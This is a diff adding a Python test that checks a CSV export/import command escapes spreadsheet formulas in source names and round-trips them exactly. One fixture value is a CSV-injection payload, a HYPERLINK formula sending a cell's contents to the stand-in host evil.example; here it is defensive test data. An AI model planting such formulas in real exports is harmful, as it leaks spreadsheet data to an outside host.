@@ -1,5 +1,6 @@
 """manage.py export_series and import_series: an exact round trip, filters, bad files."""
 
+import csv
 import datetime as dt
 from io import StringIO
 
@@ -91,6 +92,31 @@ def test_importing_twice_stores_nothing_twice(tmp_path):
     out, _ = run("import_series", str(path))
 
     assert out.startswith(f"0 points written, {len(before)} already stored, 0 new series")
+    assert stored() == before
+
+
+def test_a_source_a_spreadsheet_would_run_is_exported_as_text_and_imported_back_exactly(tmp_path):
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "'=already quoted", "'plain", "-rm", "web-1"]
+    ts_us = int(timezone.now().timestamp()) * 1_000_000
+    for i, name in enumerate(names):
+        sample = Sample("batch_progress_ratio", (("job", f"j{i}"),), ts_us, -1.5, 0)
+        writer.write_samples([sample], source=Source.objects.create(name=name))
+    before = stored()
+    path = tmp_path / "points.csv"
+
+    run("export_series", "-o", str(path))
+    with path.open(newline="") as lines:
+        cells = {row["source"] for row in csv.DictReader(lines)}
+    empty_the_database()
+    run("import_series", str(path))
+
+    assert cells == {
+        "'" + names[0],
+        "''=already quoted",
+        "'plain",
+        "'-rm",
+        "web-1",
+    }
     assert stored() == before
 
 
